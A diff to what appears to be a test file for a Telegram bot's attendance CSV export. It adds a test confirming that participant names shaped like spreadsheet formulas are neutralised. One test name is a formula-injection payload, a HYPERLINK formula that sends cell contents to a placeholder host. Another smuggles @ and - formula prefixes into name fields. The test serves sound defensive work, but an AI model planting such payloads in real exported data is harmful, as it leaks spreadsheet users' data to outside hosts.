@@ -144,7 +144,7 @@ async def test_the_export_lists_person_by_session_with_method_and_time(
     await organiser.send("/export attendance")
     sent = await organiser.last_message()
     assert sent.filename == "attendance-banyuwangi-2025.csv" and sent.document is not None
-    rows = list(csv.DictReader(io.StringIO(sent.document.decode("utf-8"))))
+    rows = list(csv.DictReader(io.StringIO(sent.document.decode("utf-8-sig"))))
     by_name = {row["name"]: row for row in rows}
     assert sorted(by_name) == ["Bayu", "Citra", "Dewi", "Eko", "Rani"]
     assert {row["session_key"] for row in rows} == {"batik"}
@@ -171,3 +171,17 @@ async def test_the_export_lists_person_by_session_with_method_and_time(
     _, errors = await asyncio.wait_for(process.communicate(), timeout=60)
     assert process.returncode == 0, errors.decode()
     assert output.read_bytes() == sent.document
+
+
+async def test_a_name_that_looks_like_a_formula_stays_text_in_the_export(
+    telegram: Rehearsal, visit: Visit, workshop: Session, organiser: Member
+):
+    formula = '=HYPERLINK("http://x.example/?"&A1,"ok")'
+    await telegram.join(formula, Role.PARTICIPANT, visit.id)
+    await telegram.join("@SUM(1+1)", Role.PARTICIPANT, visit.id, last_name="-2+3")
+    await organiser.send("/export attendance")
+    sent = await organiser.last_message()
+    assert sent.document is not None
+    names = {row["name"] for row in csv.DictReader(io.StringIO(sent.document.decode("utf-8-sig")))}
+    assert "'" + formula in names and "'@SUM(1+1) -2+3" in names
+    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)
